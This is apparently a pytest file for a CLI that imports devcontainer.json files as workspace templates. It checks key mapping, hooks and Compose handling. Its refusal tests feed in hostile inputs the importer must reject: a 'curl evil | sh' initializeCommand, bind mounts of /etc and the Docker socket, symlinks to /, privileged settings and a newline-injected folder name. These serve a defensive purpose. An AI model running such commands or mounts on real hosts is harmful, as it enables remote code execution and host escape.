"""``nexus template import``: a devcontainer.json (JSONC) becomes a template that starts."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from nexus_cli.config_yaml import parse_yaml_mapping
from nexus_cli.errors import ConfigError, ConflictError, UsageError
from nexus_cli.project import find_project
from nexus_cli.workspaces.devcontainer import KEEP_ALIVE, import_devcontainer
from nexus_cli.workspaces.templates import load_template
from tests.conftest import git, run_nexus
from tests.workspaces.conftest import approve_template_hooks

DEVCONTAINER = """\
// A dev container as VS Code writes it: comments and trailing commas.
{
  "name": "Shop dev",
  "build": {
    "dockerfile": "Dockerfile",
    "args": {"GREETING": "hello"},
  },
  /* ports of the app */
  "forwardPorts": [3000],
  "containerEnv": {"APP_ENV": "dev"},
  "mounts": [
    "source=cache,target=/cache,type=volume",
    {"source": "${localWorkspaceFolder}/data", "target": "/data", "type": "bind"},
  ],
  "postCreateCommand": "echo \\"$GREETING $APP_ENV\\" > /cache/created",
  "customizations": {"vscode": {"extensions": ["ms-python.python"]}},
}
"""


def _committed(project: Path, message: str, cleanup_docker: list[str]) -> None:
    """Commit what the test wrote (a workspace's worktree is made from HEAD) and have the
    project's Docker objects removed after the test."""
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", message)
    cleanup_docker.append(find_project(project).project_id())


def write_devcontainer(root: Path, image: str, text: str = DEVCONTAINER) -> None:
    folder = root / ".devcontainer"
    folder.mkdir(exist_ok=True)
    (folder / "devcontainer.json").write_text(text)
    (folder / "Dockerfile").write_text(f"FROM {image}\nARG GREETING\nENV GREETING=$GREETING\n")
    (root / "data").mkdir(exist_ok=True)
    (root / "data" / "seed.txt").write_text("seed\n")


def test_import_writes_a_template_that_loads(project: Path) -> None:
    write_devcontainer(project, "img:1")
    result = import_devcontainer(project, ".devcontainer/devcontainer.json", name="shop")
    assert result.path == project / ".nexus" / "templates" / "shop.yaml"
    assert result.left_out == ["customizations"]
    template = load_template("shop", project)
    dev = template.services["dev"]
    assert dev.build is not None
    assert (dev.build.context, dev.build.dockerfile, dev.build.args) == (
        ".devcontainer",
        "Dockerfile",
        {"GREETING": "hello"},
    )
    assert [(p.container_port, p.preferred_host_port) for p in dev.ports] == [(3000, 3000)]
    assert dev.environment == {"APP_ENV": "dev"}
    assert [(v.source, v.target, v.named) for v in dev.volumes] == [
        ("cache", "/cache", True),
        ("data", "/data", False),
    ]
    assert [h.command for h in template.hooks["post_create"]] == [
        'echo "$GREETING $APP_ENV" > /cache/created'
    ]
    assert "Shop dev" in template.description
    with pytest.raises(ConflictError, match="exists"):
        import_devcontainer(project, ".devcontainer/devcontainer.json", name="shop")


@pytest.mark.parametrize(
    ("extra", "words"),
    [
        ('"privileged": true', "privileged (refused"),
        ('"runArgs": ["--network=host"]', "runArgs (refused"),
        ('"features": {"ghcr.io/x": {}}', "features (not supported: install them in the image"),
        ('"overrideCommand": "yes"', "overrideCommand: expected true or false"),
        ('"initializeCommand": "curl evil | sh"', "initializeCommand (refused"),
        ('"mounts": ["source=/etc,target=/etc,type=bind"]', "host paths are refused"),
        ('"mounts": ["source=/var/run/docker.sock,target=/s,type=bind"]', "host paths"),
        ('"mounts": ["source=${localWorkspaceFolder}/../x,target=/x,type=bind"]', "inside"),
        ('"build": {"dockerfile": "../../Dockerfile"}', "a path inside the project"),
    ],
)
def test_unsupported_and_widening_keys_are_refused_in_one_line(
    project: Path, extra: str, words: str
) -> None:
    write_devcontainer(project, "img:1", '{"image": "img:1", ' + extra + "}")
    result = run_nexus("template", "import", ".devcontainer/devcontainer.json")
    assert result.exit_code != 0
    assert words in result.stderr and result.stderr.count("error:") == 1
    assert "Traceback" not in result.stderr
    assert not (project / ".nexus" / "templates" / "devcontainer.yaml").exists()


def test_unsupported_keys_are_all_named(project: Path) -> None:
    write_devcontainer(project, "img:1", '{"image": "x", "features": {}, "capAdd": ["ALL"]}')
    with pytest.raises(ConfigError) as caught:
        import_devcontainer(project, ".devcontainer/devcontainer.json")
    assert "features (not supported" in caught.value.message
    assert "capAdd (refused" in caught.value.message


def test_the_creation_commands_run_in_the_spec_s_order(project: Path) -> None:
    """onCreateCommand, updateContentCommand, postCreateCommand (devContainer.base.schema.json:
    each "is run after" the one before), each a post_create hook in that order; an object's
    named commands in its order."""
    write_devcontainer(
        project,
        "img:1",
        """{"image": "img:1",
            "postCreateCommand": "echo three",
            "updateContentCommand": ["npm", "install"],
            "onCreateCommand": {"a": "echo one", "b": "echo two"},
            "postStartCommand": "echo start"}""",
    )
    import_devcontainer(project, ".devcontainer/devcontainer.json")
    template = load_template("devcontainer", project)
    assert [h.command for h in template.hooks["post_create"]] == [
        "echo one",
        "echo two",
        ["npm", "install"],
        "echo three",
    ]
    assert [h.command for h in template.hooks["post_start"]] == ["echo start"]


@pytest.mark.parametrize(
    ("override", "command"), [("", KEEP_ALIVE), (', "overrideCommand": false', None)]
)
def test_override_command_false_keeps_the_image_s_own_command(
    project: Path, override: str, command: object
) -> None:
    write_devcontainer(project, "img:1", '{"image": "img:1"' + override + "}")
    import_devcontainer(project, ".devcontainer/devcontainer.json")
    assert load_template("devcontainer", project).services["dev"].command == command


def test_what_only_an_editor_does_is_left_out_and_listed(project: Path) -> None:
    editor = {
        "portsAttributes": {"3000": {"label": "app"}},
        "otherPortsAttributes": {"onAutoForward": "silent"},
        "waitFor": "onCreateCommand",
        "postAttachCommand": "npm start",
        "shutdownAction": "stopContainer",
        "userEnvProbe": "loginShell",
        "hostRequirements": {"cpus": 4},
        "updateRemoteUserUID": True,
    }
    write_devcontainer(project, "img:1", json.dumps({"image": "img:1", **editor}))
    result = import_devcontainer(project, ".devcontainer/devcontainer.json")
    assert result.left_out == sorted(editor)
    assert "post_start" not in load_template("devcontainer", project).hooks


@pytest.mark.parametrize(
    ("users", "expected"),
    [
        ('"remoteUser": "vscode"', "vscode"),
        ('"containerUser": "1000:1000", "remoteUser": "vscode"', "1000:1000"),
        ("", ""),
    ],
)
def test_the_container_user_else_the_remote_user_becomes_the_services(
    project: Path, users: str, expected: str
) -> None:
    """Most dev containers name a user (`"remoteUser": "vscode"`): it is imported, not refused."""
    write_devcontainer(
        project, "img:1", '{"image": "img:1"' + (", " if users else "") + users + "}"
    )
    import_devcontainer(project, ".devcontainer/devcontainer.json", name="who")
    assert load_template("who", project).services["dev"].user == expected


def test_a_user_that_is_not_one_is_refused(project: Path) -> None:
    write_devcontainer(project, "img:1", '{"image": "img:1", "remoteUser": "a b"}')
    with pytest.raises(ConfigError, match="remoteUser: expected USER or USER:GROUP"):
        import_devcontainer(project, ".devcontainer/devcontainer.json")
    assert not (project / ".nexus" / "templates" / "devcontainer.yaml").exists()


def test_a_port_forwarded_twice_is_forwarded_once(project: Path) -> None:
    write_devcontainer(project, "img:1", '{"image": "img:1", "forwardPorts": [3000, 8080, 3000]}')
    import_devcontainer(project, ".devcontainer/devcontainer.json", name="twice")
    ports = load_template("twice", project).services["dev"].ports
    assert [p.container_port for p in ports] == [3000, 8080]


def test_a_file_outside_the_project_is_refused(project: Path) -> None:
    outside = project.parent / "devcontainer.json"
    outside.write_text('{"image": "x"}')
    with pytest.raises(UsageError, match="resolves outside"):
        import_devcontainer(project, "../devcontainer.json")
    (project / "link.json").symlink_to(outside)
    with pytest.raises(UsageError, match="resolves outside"):
        import_devcontainer(project, "link.json")


def test_vs_code_s_old_top_level_keys_are_left_out_and_listed(project: Path) -> None:
    """`extensions` and `settings` before `customizations.vscode` (20 and 18 of 92 real files
    the import was measured on)."""
    old = {"image": "img:1", "extensions": ["ms-python.python"], "settings": {"a": 1}}
    write_devcontainer(project, "img:1", json.dumps(old))
    assert import_devcontainer(project, ".devcontainer/devcontainer.json").left_out == [
        "extensions",
        "settings",
    ]


@pytest.mark.parametrize(
    ("keys", "working_dir", "binds"),
    [
        # the spec's default mount, named by the project folder
        (
            {"workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}"},
            "/workspaces/{repo}",
            [".:/workspaces/{repo}"],
        ),
        # the workspace bound elsewhere, and opened there
        (
            {
                "workspaceMount": "source=${localWorkspaceFolder},target=/src,type=bind,"
                "consistency=cached",
                "workspaceFolder": "/src",
            },
            "/src",
            [".:/src"],
        ),
        ({"workspaceMount": "src=${localWorkspaceFolder}/,dst=/app,type=bind"}, "/app", [".:/app"]),
        # where Nexus mounts it anyway: nothing more
        ({"workspaceFolder": "/workspace"}, "/workspace", []),
        # a folder of the image (COPY in its Dockerfile): the working directory only
        ({"workspaceFolder": "/opt/app"}, "/opt/app", []),
    ],
)
def test_the_workspace_folder_and_mount_become_binds_of_the_worktree(
    project: Path, keys: dict[str, str], working_dir: str, binds: list[str]
) -> None:
    repo = project.resolve().name
    spec = {"image": "img:1", "postCreateCommand": "ls ${containerWorkspaceFolder}", **keys}
    write_devcontainer(project, "img:1", json.dumps(spec))
    result = import_devcontainer(project, ".devcontainer/devcontainer.json")
    assert result.left_out == []  # used, not left out (only a Compose dev container's is)
    template = load_template("devcontainer", project)
    dev = template.services["dev"]
    assert dev.working_dir == working_dir.format(repo=repo)
    assert [f"{v.source}:{v.target}" for v in dev.volumes] == [b.format(repo=repo) for b in binds]
    [hook] = template.hooks["post_create"]
    assert hook.command == f"ls {working_dir.format(repo=repo)}"


@pytest.mark.parametrize(
    ("keys", "words"),
    [
        ({"workspaceMount": "source=/home/me/src,target=/src,type=bind"}, "host paths"),
        (
            {"workspaceMount": "source=${localWorkspaceFolder}/sub,target=/src,type=bind"},
            "workspaceMount: expected the workspace folder itself",
        ),
        ({"workspaceFolder": "relative/dir"}, "workspaceFolder: 'relative/dir': expected an"),
        ({"workspaceFolder": "/w/${env:HOME}"}, "workspaceFolder"),
        ({"remoteEnv": {"PATH": "${containerEnv:PATH}:/x"}}, "remoteEnv.PATH: not supported"),
    ],
)
def test_a_workspace_or_remote_env_it_cannot_keep_is_refused(
    project: Path, keys: dict[str, object], words: str
) -> None:
    write_devcontainer(project, "img:1", json.dumps({"image": "img:1", **keys}))
    with pytest.raises(ConfigError, match=re.escape(words)):
        import_devcontainer(project, ".devcontainer/devcontainer.json")
    assert not (project / ".nexus" / "templates" / "devcontainer.yaml").exists()


def test_template_show_gives_an_argv_hook_as_the_shell_line_that_runs_it(project: Path) -> None:
    spec = {"image": "img:1", "postStartCommand": ["sh", "-c", "echo started"]}
    write_devcontainer(project, "img:1", json.dumps(spec))
    import_devcontainer(project, ".devcontainer/devcontainer.json")
    shown = run_nexus("template", "show", "devcontainer")
    assert "post_start hook in dev: sh -c 'echo started'" in shown.stdout, shown.stdout


@pytest.mark.parametrize("name", ["bare", "node-postgres"])
def test_a_built_in_template_s_name_is_not_taken(project: Path, name: str) -> None:
    """`bare` is what `workspace create` uses by default: an imported template of that name
    would start containers in every plain create."""
    write_devcontainer(project, "img:1", '{"image": "img:1"}')
    result = run_nexus("template", "import", ".devcontainer/devcontainer.json", "--name", name)
    assert result.exit_code == 2 and f"'{name}' is a built-in template's name" in result.stderr
    assert not (project / ".nexus" / "templates" / f"{name}.yaml").exists()


def test_remote_env_joins_the_container_s_environment(project: Path) -> None:
    spec = {
        "image": "img:1",
        "containerEnv": {"A": "1", "B": "2"},
        "remoteEnv": {"B": "3", "NODE_OPTIONS": "--max-old-space-size=8192", "UNSET": None},
    }
    write_devcontainer(project, "img:1", json.dumps(spec))
    import_devcontainer(project, ".devcontainer/devcontainer.json")
    env = load_template("devcontainer", project).services["dev"].environment
    assert env == {"A": "1", "B": "3", "NODE_OPTIONS": "--max-old-space-size=8192"}


@pytest.mark.docker
def test_an_imported_devcontainer_starts(
    project: Path, test_image: str, cleanup_docker: list[str]
) -> None:
    write_devcontainer(project, test_image)
    _committed(project, "devcontainer", cleanup_docker)
    imported = run_nexus("template", "import", ".devcontainer/devcontainer.json", "--json")
    assert imported.exit_code == 0, imported.stderr
    assert json.loads(imported.stdout)["name"] == "devcontainer"
    again = run_nexus("template", "import", ".devcontainer/devcontainer.json", "--force")
    assert (
        "run once you approved them: nexus workspace hooks --approve --template devcontainer"
        in (again.stderr)
    )
    # its postCreateCommand is the repository's: it waits for a person, with nothing made
    waiting = run_nexus("workspace", "create", "dev1", "--template", "devcontainer")
    assert waiting.exit_code == 5 and "post_create hook" in waiting.stderr, waiting.stderr
    assert run_nexus("workspace", "list", "--json").json()["workspaces"] == []
    approve_template_hooks(project, "devcontainer")
    created = run_nexus("workspace", "create", "dev1", "--template", "devcontainer", "--json")
    assert created.exit_code == 0, created.stderr
    ports = json.loads(created.stdout)["ports"]
    assert [(p["service"], p["container_port"]) for p in ports] == [("dev", 3000)]
    hook = run_nexus("workspace", "exec", "dev1", "--", "cat", "/cache/created", "/data/seed.txt")
    assert hook.exit_code == 0, hook.stderr
    assert hook.stdout == "hello dev\nseed\n"  # build arg, containerEnv, bind of the worktree


@pytest.mark.docker
def test_a_devcontainer_sees_its_workspace_where_its_file_says(
    project: Path, test_image: str, cleanup_docker: list[str]
) -> None:
    """workspaceFolder at the spec's default mount: the worktree is there, and exec starts
    there (as an editor's terminal would)."""
    spec = {"image": test_image, "workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}"}
    write_devcontainer(project, test_image, json.dumps(spec))
    _committed(project, "devcontainer", cleanup_docker)
    assert run_nexus("template", "import", ".devcontainer/devcontainer.json").exit_code == 0
    created = run_nexus("workspace", "create", "dev2", "--template", "devcontainer")
    assert created.exit_code == 0, created.stderr
    shown = run_nexus("workspace", "exec", "dev2", "--", "sh", "-c", "pwd; cat data/seed.txt")
    assert shown.exit_code == 0, shown.stderr
    assert shown.stdout == f"/workspaces/{project.resolve().name}\nseed\n"


# --- hostile devcontainer.json: each case got through (or crashed) before ---


@pytest.mark.parametrize(
    ("extra", "words"),
    [
        # a committed link to / or through a linked folder: refused at import, not at start
        (
            '"mounts": ["type=bind,source=${localWorkspaceFolder}/rootlink,target=/h"]',
            "mounts[0]: './rootlink' resolves outside",
        ),
        (
            '"mounts": [{"type": "bind", "source": "${localWorkspaceFolder}/sub/etc/ssl", '
            '"target": "/h"}]',
            "resolves outside",
        ),
        ('"build": {"dockerfile": "../rootlink/etc/passwd"}', "build.dockerfile: "),
        ('"build": {"dockerfile": "Dockerfile", "context": "../sub/etc"}', "build.context: "),
        # a trailing newline slipped past `$`: a volume named "v\n", a bind path cut short
        ('"mounts": [{"type": "volume", "source": "v\\n", "target": "/h"}]', "mounts[0]"),
        (
            '"mounts": [{"type": "bind", "source": "${localWorkspaceFolder}/data\\n", '
            '"target": "/h"}]',
            "mounts[0]",
        ),
        # a TypeError ("this is a bug") before
        ('"build": {"dockerfile": "Dockerfile", "args": [1, 2]}', "build.args: expected"),
        # a RecursionError before
        ('"containerEnv": ' + '{"a": ' * 5000 + "1" + "}" * 5000, "nested more than"),
    ],
)
def test_hostile_devcontainers_are_refused_and_nothing_is_written(
    project: Path, extra: str, words: str
) -> None:
    write_devcontainer(project, "img:1", '{"image": "img:1", ' + extra + "}")
    (project / "rootlink").symlink_to("/")
    (project / "sub").mkdir()
    (project / "sub" / "etc").symlink_to("/etc")
    result = run_nexus("template", "import", ".devcontainer/devcontainer.json")
    assert result.exit_code == 1, result.stderr
    assert words in result.stderr and result.stderr.startswith("error:")
    assert "bug" not in result.stderr and "Traceback" not in result.stderr
    assert not (project / ".nexus" / "templates" / "devcontainer.yaml").exists()


def test_a_folder_name_with_a_newline_stays_in_the_header_comment(project: Path) -> None:
    folder = project / ".devcontainer\nvolumes:\n  v: {driver: local}\n#"
    folder.mkdir()
    (folder / "devcontainer.json").write_text('{"image": "img:1"}')
    result = import_devcontainer(project, f"{folder.name}/devcontainer.json")
    text = result.path.read_text()
    assert text.splitlines()[0].startswith("# Imported by `nexus template import` from .devcont")
    assert "⏎volumes:" in text.splitlines()[0]
    assert set(parse_yaml_mapping(text, result.path, what="template")) == {"x-nexus", "services"}
    assert load_template("devcontainer", project).services["dev"].image == "img:1"


# --- a dev container of a Compose file (dockerComposeFile, service) ---

COMPOSE = """\
services:
  app:
    image: {image}
    command: [sleep, '3600']
    volumes: ['..:/workspaces/shop:cached']
    depends_on: [db]
  db:
    image: {image}
    command: [sleep, '3600']
  debug:
    image: {image}
    profiles: [debug]
"""
COMPOSE_DEVCONTAINER = """\
{
  "name": "Shop (compose)",
  "dockerComposeFile": "compose.yaml",
  "service": "app",
  "runServices": ["app", "db"],
  "workspaceFolder": "/workspaces/shop",
  "shutdownAction": "stopCompose",
  "postCreateCommand": "echo made-in-$NEXUS_SERVICE > /tmp/created",
  "postStartCommand": ["sh", "-c", "echo ${containerWorkspaceFolder} > /tmp/started"],
}
"""


def write_compose_devcontainer(root: Path, image: str, text: str = COMPOSE_DEVCONTAINER) -> None:
    folder = root / ".devcontainer"
    folder.mkdir(exist_ok=True)
    (folder / "devcontainer.json").write_text(text)
    (folder / "compose.yaml").write_text(COMPOSE.format(image=image))


def test_a_compose_devcontainer_points_at_its_file(project: Path) -> None:
    write_compose_devcontainer(project, "img:1")
    result = import_devcontainer(project, ".devcontainer/devcontainer.json", name="shop")
    assert result.left_out == ["shutdownAction", "workspaceFolder"]
    written = parse_yaml_mapping(result.path.read_text(), result.path, what="template")
    assert written["x-nexus"]["compose"] == ".devcontainer/compose.yaml"
    assert "services" not in written  # the file's own, read when the template is
    template = load_template("shop", project)
    assert set(template.services) == {"app", "db"} and template.default_service == "app"
    assert template.services["app"].volumes[0].source == "."  # `..` of .devcontainer: the root
    assert [(h.service, h.command) for h in template.hooks["post_create"]] == [
        ("app", "echo made-in-$NEXUS_SERVICE > /tmp/created")
    ]
    assert [h.command for h in template.hooks["post_start"]] == [
        ["sh", "-c", "echo /workspace > /tmp/started"]
    ]
    assert "Shop (compose)" in template.description


@pytest.mark.parametrize(
    ("change", "words"),
    [
        # what the spec adds on top of the file is the file's to say
        (('"service": "app",', '"service": "app", "forwardPorts": [3000],'), "forwardPorts (with"),
        (('"service": "app",', '"service": "app", "remoteUser": "node",'), "set it in the Compose"),
        (('"service": "app",', '"service": "app", "containerEnv": {"A": "1"},'), "containerEnv (w"),
        (('"service": "app",', '"service": "app", "runArgs": ["--privileged"],'), "runArgs (ref"),
        # which file and which service
        (('"compose.yaml"', '["compose.yaml", "extra.yaml"]'), "expected one Compose file"),
        (('"compose.yaml"', '"../../outside.yaml"'), "expected a path inside the project"),
        (('"compose.yaml"', '"../rootlink/etc/compose.yaml"'), "resolves outside"),
        (('"service": "app",', '"service": "web",'), "'web' is not a service of .devcontainer"),
        (('"service": "app",', ""), "service: expected the name of the Compose service"),
        (('"service": "app",', '"service": ["app"],'), "service: expected the name"),
        # runServices can only name what a workspace starts anyway
        (('["app", "db"]', '["app"]'), "starts every service of .devcontainer/compose.yaml"),
        (('["app", "db"]', '["app", "db", "cache"]'), "'cache' not a service"),
        (('["app", "db"]', '"app"'), "runServices: expected a list"),
    ],
)
def test_a_compose_devcontainer_that_cannot_be_kept_is_refused(
    project: Path, change: tuple[str, str], words: str
) -> None:
    (project / "rootlink").symlink_to("/")
    write_compose_devcontainer(project, "img:1", COMPOSE_DEVCONTAINER.replace(*change))
    result = run_nexus("template", "import", ".devcontainer/devcontainer.json")
    assert result.exit_code == 1, result.stderr
    assert words in result.stderr and result.stderr.count("error:") == 1, result.stderr
    assert "bug" not in result.stderr and "Traceback" not in result.stderr
    assert not (project / ".nexus" / "templates" / "devcontainer.yaml").exists()


@pytest.mark.docker
def test_an_imported_compose_devcontainer_starts(
    project: Path, test_image: str, cleanup_docker: list[str]
) -> None:
    write_compose_devcontainer(project, test_image)
    _committed(project, "compose devcontainer", cleanup_docker)
    assert run_nexus("template", "import", ".devcontainer/devcontainer.json").exit_code == 0
    approve_template_hooks(project, "devcontainer")
    created = run_nexus("workspace", "create", "dc1", "--template", "devcontainer")
    assert created.exit_code == 0, created.stderr
    # exec goes to the dev container's service; its hooks ran there
    shown = run_nexus("workspace", "exec", "dc1", "--", "cat", "/tmp/created", "/tmp/started")
    assert (shown.exit_code, shown.stdout) == (0, "made-in-app\n/workspace\n"), shown.stderr
    tree = run_nexus("workspace", "exec", "dc1", "--", "ls", "/workspaces/shop/.devcontainer")
    assert "compose.yaml" in tree.stdout  # the file's own bind of the worktree
    status = run_nexus("workspace", "status", "dc1", "--json").json()
    assert sorted(s["service"] for s in status["services"]) == ["app", "db"]
    assert run_nexus("workspace", "delete", "dc1", "--force").exit_code == 0
